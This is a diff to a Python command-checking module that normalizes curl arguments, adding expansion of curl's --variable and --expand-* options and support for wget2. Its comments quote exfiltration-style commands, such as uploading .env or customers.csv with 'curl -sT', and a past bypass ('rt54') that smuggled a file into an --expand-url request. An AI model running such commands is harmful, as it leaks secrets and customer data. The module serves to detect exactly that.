@@ -9,6 +9,9 @@ in the next word, so ``curl -sT.env URL``, ``curl -sTdata/customers.csv URL``, `
 
 from __future__ import annotations
 
+import re
+import shlex
+
 # curl 7.88's short options that take a value (the rest of the word, or the next word); every other letter below is a
 # flag, and a letter curl does not know makes it refuse the whole command (the word is kept as it is)
 VALUED = frozenset("AbcCdDeEFHKmoPQrtTuUwxXyYz")
@@ -92,10 +95,42 @@ def for_program(prog: str, args: list[str]) -> list[str]:
         for word in words(args):
             out += _valued(word) if "--" not in out and word.startswith("-") and not word.startswith("--") and (
                 "$" in word or "`" in word) else [word]
-        return out
-    if prog == "wget":
+        return _expand(out) if any(w.startswith("--expand-") for w in out) else out
+    if prog in ("wget", "wget2"):
         return wget_words(args)
     return args
+
+
+_VARIABLE = re.compile(r"(%?)([A-Za-z_]\w*)(?:\[[^]]*\])?([=@])?(.*)", re.S)
+_MUSTACHE = re.compile(r"\{\{([A-Za-z_]\w*)((?::\w+)*)\}\}")
+
+
+def _expand(args: list[str]) -> list[str]:
+    """curl 8.3's variables: ``--variable NAME@FILE`` holds FILE's text (``@-``: its input), ``--variable %NAME`` the
+    environment's NAME, ``--variable NAME=TEXT`` the text; ``--expand-OPTION VALUE`` is ``--OPTION`` with each
+    ``{{NAME}}`` (``{{NAME:trim:url}}``…) of VALUE replaced. rt54: ``--variable f@customers.csv --expand-url
+    "http://h/{{f}}"`` (also ``--expand-data``, ``--expand-header``) sent the file: no reader knew the options. Here
+    a file's text becomes ``$(cat FILE)``, the environment's ``$NAME``, so every reader judges what curl sends as it
+    judges the shell's spelling of the same value (refused where ``-d "$(cat FILE)"`` is)."""
+    values: dict[str, str] = {}
+    out: list[str] = []
+    for i, word in enumerate(args):
+        ended = "--" in args[:i]
+        given = args[i - 1] if i and "--" not in args[:i - 1] else ""
+        if given in ("--variable", "--expand-variable"):  # (an --expand-variable's own value may use earlier ones)
+            value = _MUSTACHE.sub(lambda m: values.get(m.group(1), ""), word) if given != "--variable" else word
+            if (m := _VARIABLE.fullmatch(value)) is not None:
+                env, name, how, rest = m.groups()
+                values[name] = f"${{{name}}}" if env and not how else f"$(cat {shlex.quote(rest)})" if how == "@" \
+                    else rest if how == "=" and not env else "$(cat -)"  # `%NAME=default`: the environment's or it
+            out.append(value)
+        elif word.startswith("--expand-") and not ended:
+            out.append(long_name("--" + word[len("--expand-"):]))
+        elif given.startswith("--expand-"):
+            out.append(_MUSTACHE.sub(lambda m: values.get(m.group(1), ""), word))
+        else:
+            out.append(word)
+    return out
 
 
 def wget_words(args: list[str]) -> list[str]:
